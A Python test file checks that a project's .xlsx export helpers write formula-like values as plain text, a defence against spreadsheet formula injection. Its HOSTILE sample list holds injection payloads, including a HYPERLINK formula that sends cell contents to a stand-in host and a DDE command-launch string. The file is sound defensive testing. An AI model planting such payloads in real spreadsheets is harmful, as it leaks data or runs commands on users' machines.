"""Cells that look like formulas are written as text (issue 16; shared by every .xlsx export)."""

from __future__ import annotations

import zipfile

from openpyxl import Workbook, load_workbook

from policydesk.xlsx import append_safe, is_formula_like, safe_cell, set_safe

HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"点击查看")', "+1+2", "-2+3", "@SUM(A1:A9)",
           " =cmd|' /C calc'!A0", "\t=1"]
ORDINARY = ["市商务局", "2021年底前", "—", "-", "", "（责任单位：市发改委）", 7, 3.5, None]


def test_formula_like_values_are_recognised():
    assert all(is_formula_like(v) for v in HOSTILE)
    assert not any(is_formula_like(v) for v in ORDINARY)
    assert all(safe_cell(v) == v for v in HOSTILE + ORDINARY)        # the visible text never changes


def test_written_as_text_never_as_formulas(tmp_path):
    wb = Workbook()
    ws = wb.active
    append_safe(ws, HOSTILE)
    append_safe(ws, ORDINARY)
    set_safe(ws["A5"], "=1+1")
    path = tmp_path / "t.xlsx"
    wb.save(path)
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml, "no cell is a formula"
    back = load_workbook(path).active
    row = back[1][:len(HOSTILE)]
    assert [c.value for c in row] == HOSTILE
    assert all(c.data_type == "s" and c.quotePrefix for c in row)
    assert back["A5"].value == "=1+1" and back["A5"].data_type == "s"
    assert [c.value for c in back[2]][:7] == ORDINARY[:4] + [None, "（责任单位：市发改委）", 7]
    # openpyxl alone would have written a formula: the helper is what prevents it
    wb2 = Workbook()
    wb2.active.append(["=1+1"])
    wb2.save(tmp_path / "plain.xlsx")
    assert "<f>" in zipfile.ZipFile(tmp_path / "plain.xlsx").read("xl/worksheets/sheet1.xml").decode("utf-8")
